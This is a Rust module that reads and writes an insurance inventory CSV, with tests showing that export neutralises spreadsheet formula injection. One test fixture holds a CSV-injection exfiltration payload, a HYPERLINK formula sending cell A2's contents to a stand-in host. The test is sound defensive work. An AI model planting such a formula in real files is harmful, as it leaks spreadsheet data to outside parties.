//! The inventory's CSV format (RFC 4180): a header row, then one row per item, money as a
//! decimal. Import reads the same format and reports every problem by line and column before
//! anything is saved. Parsed from bytes, so broken UTF-8 is named where it is. The file is
//! opened in spreadsheets, so export marks formula-like cells as text and import removes exactly
//! that mark ([`crate::spreadsheet`]).

use super::model::{FieldError, Item, ItemDraft, ItemFields, MAX_ITEMS_PER_CLAIM};
use super::money;
use super::sentence::Sentence;
use crate::language::Language;
use crate::spreadsheet;

/// The columns, in order; export writes them and import requires them.
pub const COLUMNS: [&str; 12] = [
    "room",
    "description",
    "brand",
    "model",
    "quantity",
    "age_years",
    "age_months",
    "condition",
    "replacement_cost",
    "business_use",
    "category",
    "notes",
];

/// One problem in an imported file. `line` is 1-based (the header is line 1); `column` is the
/// header name (or "row" for problems with the whole row). `message` is the problem in English
/// (the JSON API's); [`ImportError::reason_in`] says it in any language.
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct ImportError {
    pub line: usize,
    pub column: String,
    pub message: String,
    #[serde(skip)]
    reason: Sentence,
}

impl ImportError {
    pub fn new(line: usize, column: &str, reason: Sentence) -> Self {
        Self { line, column: column.to_owned(), message: reason.to_string(), reason }
    }

    /// The problem, without its line and column, in `language`.
    pub fn reason_in(&self, language: Language) -> String {
        self.reason.in_language(language)
    }
}

impl std::fmt::Display for ImportError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "line {}, column {}: {}", self.line, self.column, self.message)
    }
}

/// One cell: guarded against formulas (a spreadsheet opens this file), then quoted when RFC 4180
/// needs it.
fn cell(field: &str) -> String {
    let field = spreadsheet::guard(field);
    if field.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field.into_owned()
    }
}

/// The file for `items`, CRLF line ends as RFC 4180 says.
pub fn export(items: &[Item]) -> String {
    let mut out = COLUMNS.join(",");
    out.push_str("\r\n");
    for item in items {
        let f = &item.fields;
        let row = [
            cell(&f.room),
            cell(&f.description),
            cell(&f.brand),
            cell(&f.model),
            cell(&f.quantity.to_string()),
            cell(&f.age_years.to_string()),
            cell(&f.age_months.to_string()),
            cell(f.condition.as_str()),
            cell(&money::decimal(f.replacement_cost_cents)),
            cell(if f.business_use { "yes" } else { "no" }),
            cell(&f.category),
            cell(&f.notes),
        ];
        out.push_str(&row.join(","));
        out.push_str("\r\n");
    }
    out
}

struct Record {
    line: usize,
    fields: Vec<Vec<u8>>,
}

/// Splits bytes into records. Quotes, commas and line ends are ASCII, so this is safe on UTF-8.
fn records(bytes: &[u8]) -> Result<Vec<Record>, ImportError> {
    let mut out = Vec::new();
    let mut line = 1;
    let mut i = 0;
    while i < bytes.len() {
        let start_line = line;
        let mut fields = Vec::new();
        loop {
            let mut field = Vec::new();
            if bytes.get(i) == Some(&b'"') {
                i += 1;
                loop {
                    match bytes.get(i) {
                        None => {
                            let column = COLUMNS.get(fields.len()).copied().unwrap_or("row");
                            return Err(ImportError::new(
                                start_line,
                                column,
                                Sentence::text("claim-csv-unclosed-quote"),
                            ));
                        }
                        Some(b'"') if bytes.get(i + 1) == Some(&b'"') => {
                            field.push(b'"');
                            i += 2;
                        }
                        Some(b'"') => {
                            i += 1;
                            break;
                        }
                        Some(&b) => {
                            if b == b'\n' {
                                line += 1;
                            }
                            field.push(b);
                            i += 1;
                        }
                    }
                }
                if !matches!(bytes.get(i), None | Some(b',' | b'\r' | b'\n')) {
                    let column = COLUMNS.get(fields.len()).copied().unwrap_or("row");
                    return Err(ImportError::new(line, column, Sentence::text("claim-csv-text-after-quote")));
                }
            } else {
                while let Some(&b) = bytes.get(i) {
                    if matches!(b, b',' | b'\r' | b'\n') {
                        break;
                    }
                    field.push(b);
                    i += 1;
                }
            }
            fields.push(field);
            match bytes.get(i) {
                Some(b',') => i += 1,
                Some(b'\r') => {
                    i += if bytes.get(i + 1) == Some(&b'\n') { 2 } else { 1 };
                    line += 1;
                    break;
                }
                Some(b'\n') => {
                    i += 1;
                    line += 1;
                    break;
                }
                _ => break,
            }
        }
        let blank = fields.len() == 1 && fields[0].iter().all(|b| b.is_ascii_whitespace());
        if !blank {
            out.push(Record { line: start_line, fields });
        }
    }
    Ok(out)
}

fn whole_number(text: &str) -> Result<i64, Sentence> {
    let t = text.trim();
    if t.is_empty() {
        return Ok(0);
    }
    t.parse::<i64>().map_err(|_| Sentence::text("claim-csv-not-whole-number").arg("value", format!("{t:?}")))
}

fn yes_no(text: &str) -> Result<bool, Sentence> {
    match text.trim().to_ascii_lowercase().as_str() {
        "" | "no" | "n" | "false" | "0" => Ok(false),
        "yes" | "y" | "true" | "1" => Ok(true),
        other => Err(Sentence::text("claim-csv-not-yes-no").arg("value", format!("{other:?}"))),
    }
}

/// The CSV column a validation error belongs to.
fn column_of(field: &str) -> &str {
    if field == "replacement_cost_cents" { "replacement_cost" } else { field }
}

/// Reads a whole file. Either every row is a valid item (in file order), or every problem found,
/// by line and column; the caller saves nothing then.
pub fn parse(bytes: &[u8]) -> Result<Vec<ItemFields>, Vec<ImportError>> {
    parse_with_lines(bytes).map(|rows| rows.into_iter().map(|(_, fields)| fields).collect())
}

/// [`parse`], with the line each item starts on in the file (blank lines and line breaks inside
/// quoted values count, as in the error messages).
pub fn parse_with_lines(bytes: &[u8]) -> Result<Vec<(usize, ItemFields)>, Vec<ImportError>> {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    let records = records(bytes).map_err(|e| vec![e])?;
    let Some((header, rows)) = records.split_first() else {
        return Err(vec![ImportError::new(1, "row", Sentence::text("claim-csv-empty-file"))]);
    };
    let mut errors = Vec::new();
    let names: Vec<String> =
        header.fields.iter().map(|f| String::from_utf8_lossy(f).trim().to_ascii_lowercase()).collect();
    for (i, expected) in COLUMNS.iter().enumerate() {
        match names.get(i) {
            Some(found) if found == expected => {}
            Some(found) => errors.push(ImportError::new(
                1,
                expected,
                Sentence::text("claim-csv-wrong-column")
                    .arg("number", i + 1)
                    .arg("expected", format!("{expected:?}"))
                    .arg("found", format!("{found:?}")),
            )),
            None => errors.push(ImportError::new(
                1,
                expected,
                Sentence::text("claim-csv-missing-column").arg("expected", format!("{expected:?}")),
            )),
        }
    }
    for extra in names.iter().skip(COLUMNS.len()) {
        errors.push(ImportError::new(
            1,
            extra,
            Sentence::text("claim-csv-unknown-column").arg("name", format!("{extra:?}")),
        ));
    }
    if !errors.is_empty() {
        return Err(errors);
    }
    if rows.len() > MAX_ITEMS_PER_CLAIM {
        return Err(vec![ImportError::new(
            1,
            "row",
            Sentence::text("claim-csv-too-many-rows").arg("max", MAX_ITEMS_PER_CLAIM),
        )]);
    }
    let mut items = Vec::with_capacity(rows.len());
    for row in rows {
        let line = row.line;
        if row.fields.len() != COLUMNS.len() {
            errors.push(ImportError::new(
                line,
                COLUMNS.get(row.fields.len()).copied().unwrap_or("row"),
                Sentence::text("claim-csv-value-count").arg("expected", COLUMNS.len()).arg("found", row.fields.len()),
            ));
            continue;
        }
        let mut texts = Vec::with_capacity(COLUMNS.len());
        for (raw, column) in row.fields.iter().zip(COLUMNS) {
            match std::str::from_utf8(raw) {
                // Undo the mark `export` puts before formula-like cells.
                Ok(t) => texts.push(spreadsheet::unguard(t).to_owned()),
                Err(_) => {
                    errors.push(ImportError::new(line, column, Sentence::text("claim-csv-not-utf8")));
                    texts.push(String::new());
                }
            }
        }
        let before = errors.len();
        let mut number = |column: &str, text: &str, parse: fn(&str) -> Result<i64, Sentence>| {
            parse(text).unwrap_or_else(|m| {
                errors.push(ImportError::new(line, column, m));
                -1
            })
        };
        let quantity = number("quantity", &texts[4], whole_number);
        let age_years = number("age_years", &texts[5], whole_number);
        let age_months = number("age_months", &texts[6], whole_number);
        let cost = number("replacement_cost", &texts[8], money::read_decimal);
        let business_use = yes_no(&texts[9]).unwrap_or_else(|m| {
            errors.push(ImportError::new(line, "business_use", m));
            false
        });
        if errors.len() > before {
            // Do not pile range errors on top of the unreadable numbers; still check the text.
            let d =
                ItemDraft { quantity: 1, replacement_cost_cents: 0, ..draft_from(&texts, 1, 0, 0, 0, business_use) };
            push_field_errors(&mut errors, line, d.validate_all().err());
            continue;
        }
        let d = draft_from(&texts, quantity, age_years, age_months, cost, business_use);
        match d.validate_all() {
            Ok(fields) => items.push((line, fields)),
            Err(e) => push_field_errors(&mut errors, line, Some(e)),
        }
    }
    if errors.is_empty() { Ok(items) } else { Err(errors) }
}

fn draft_from(
    t: &[String],
    quantity: i64,
    age_years: i64,
    age_months: i64,
    cost: i64,
    business_use: bool,
) -> ItemDraft {
    ItemDraft {
        room: t[0].clone(),
        description: t[1].clone(),
        brand: t[2].clone(),
        model: t[3].clone(),
        quantity,
        age_years,
        age_months,
        condition: t[7].clone(),
        replacement_cost_cents: cost,
        business_use,
        category: t[10].clone(),
        notes: t[11].clone(),
    }
}

fn push_field_errors(errors: &mut Vec<ImportError>, line: usize, found: Option<Vec<FieldError>>) {
    for e in found.unwrap_or_default() {
        errors.push(ImportError::new(line, column_of(e.field), e.reason().clone()));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const HEADER: &str = "room,description,brand,model,quantity,age_years,age_months,condition,replacement_cost,business_use,category,notes\r\n";

    #[test]
    fn a_good_file_reads_every_row_with_quotes_and_line_breaks() {
        let file = format!(
            "{HEADER}Kitchen,Toaster,Acme,T1,2,1,6,good,49.99,no,Appliances,\"two slots, \"\"chrome\"\"\nline 2\"\r\nOffice,Desk,,,1,,,Like new,300,yes,,\r\n"
        );
        let items = parse(file.as_bytes()).unwrap();
        assert_eq!(items.len(), 2);
        assert_eq!(items[0].notes, "two slots, \"chrome\"\nline 2");
        assert_eq!(items[0].replacement_cost_cents, 4999);
        assert!(items[1].business_use);
    }

    #[test]
    fn problems_are_named_by_line_and_column() {
        let file = format!("{HEADER}Kitchen,Toaster,,,-2,0,0,good,12.00,no,,\nKitchen,Kettle,,,1,0,0,good,abc,no,,\n");
        let errors = parse(file.as_bytes()).unwrap_err();
        assert_eq!(errors[0].line, 2);
        assert_eq!(errors[0].column, "quantity");
        assert_eq!(errors[1].line, 3);
        assert_eq!(errors[1].column, "replacement_cost");
    }

    fn stored(draft: ItemDraft) -> Item {
        let now = time::OffsetDateTime::UNIX_EPOCH;
        Item {
            id: super::super::ItemId::from_stored(String::new()),
            claim_id: super::super::ClaimId::from_stored(String::new()),
            seq_no: 0,
            fields: draft.validate_all().unwrap(),
            adjuster_comment: String::new(),
            created_at: now,
            updated_at: now,
        }
    }

    #[test]
    fn formula_like_text_is_exported_as_text_and_imports_as_the_same_items() {
        let base = ItemDraft { room: "Kitchen".into(), quantity: 1, condition: "good".into(), ..ItemDraft::default() };
        let items = [
            ItemDraft {
                description: "=HYPERLINK(\"https://evil.example/?\"&A2,\"Receipt\")".into(),
                notes: "=1+1\nsecond line".into(),
                ..base.clone()
            },
            ItemDraft { description: "=SUM(A1)".into(), room: "=Room".into(), ..base.clone() },
            ItemDraft { description: "+1 555".into(), brand: "-12.50 off".into(), ..base.clone() },
            ItemDraft { description: "@home".into(), category: "@cat".into(), ..base.clone() },
            ItemDraft { description: "-dash".into(), model: "+1e5".into(), ..base.clone() },
            // Negative-looking text stays a number in the sheet and is the same text on import.
            ItemDraft { description: "-3".into(), model: "-12.50".into(), ..base.clone() },
            // Typed with an apostrophe already: kept as typed.
            ItemDraft { description: "'=x".into(), brand: "'90s".into(), notes: "'-3".into(), ..base.clone() },
            ItemDraft {
                description: "Lamp".into(),
                notes: "first line\n\t=indented line".into(),
                replacement_cost_cents: 1250,
                ..base.clone()
            },
        ]
        .map(stored);
        let file = export(&items);
        let rows: Vec<Vec<String>> = records(file.as_bytes())
            .unwrap()
            .into_iter()
            .map(|r| r.fields.into_iter().map(|f| String::from_utf8(f).unwrap()).collect())
            .collect();
        assert_eq!(rows[1][1], "'=HYPERLINK(\"https://evil.example/?\"&A2,\"Receipt\")");
        assert_eq!(rows[1][11], "'=1+1\nsecond line");
        assert_eq!((rows[2][0].as_str(), rows[2][1].as_str()), ("'=Room", "'=SUM(A1)"));
        assert_eq!((rows[3][1].as_str(), rows[3][2].as_str()), ("'+1 555", "'-12.50 off"));
        assert_eq!((rows[5][1].as_str(), rows[5][3].as_str()), ("'-dash", "'+1e5"));
        assert_eq!((rows[6][1].as_str(), rows[6][3].as_str()), ("-3", "-12.50"), "a bare number is not marked");
        assert_eq!((rows[7][1].as_str(), rows[7][2].as_str(), rows[7][11].as_str()), ("''=x", "'90s", "''-3"));
        for field in rows.iter().flatten() {
            let risky = field.starts_with(['=', '+', '@', '\t', '\r'])
                || (field.starts_with('-') && !crate::spreadsheet::is_plain_number(field));
            assert!(!risky, "{field:?} in {file}");
        }
        let back = parse(file.as_bytes()).unwrap();
        assert_eq!(back.len(), items.len());
        for (read, item) in back.iter().zip(&items) {
            assert_eq!(read, &item.fields);
        }
    }

    #[test]
    fn import_removes_the_mark_only_before_a_formula_character() {
        let file = format!(
            "{HEADER}'=Room,'@home,'+1 555,'-dash,1,0,0,good,1,no,'plain,\"'\t=x\nnext\"\r\nOffice,'90s desk,'',-3,1,0,0,good,1,no,,\r\n"
        );
        let items = parse(file.as_bytes()).unwrap();
        let f = &items[0];
        assert_eq!(
            (f.room.as_str(), f.description.as_str(), f.brand.as_str(), f.model.as_str()),
            ("=Room", "@home", "+1 555", "-dash")
        );
        assert_eq!((f.category.as_str(), f.notes.as_str()), ("'plain", "=x\nnext"), "stored text is trimmed");
        let f = &items[1];
        assert_eq!((f.description.as_str(), f.brand.as_str(), f.model.as_str()), ("'90s desk", "''", "-3"));
    }

    #[test]
    fn wrong_columns_and_broken_utf8_are_refused() {
        let errors = parse(b"room,description\nKitchen,Toaster\n").unwrap_err();
        assert_eq!((errors[0].line, errors[0].column.as_str()), (1, "brand"));
        let mut bad = HEADER.as_bytes().to_vec();
        bad.extend_from_slice(b"Kitchen,Toa\xffster,,,1,0,0,good,1,no,,\r\n");
        let errors = parse(&bad).unwrap_err();
        assert_eq!((errors[0].line, errors[0].column.as_str()), (2, "description"));
        assert!(parse(b"").is_err());
    }
}
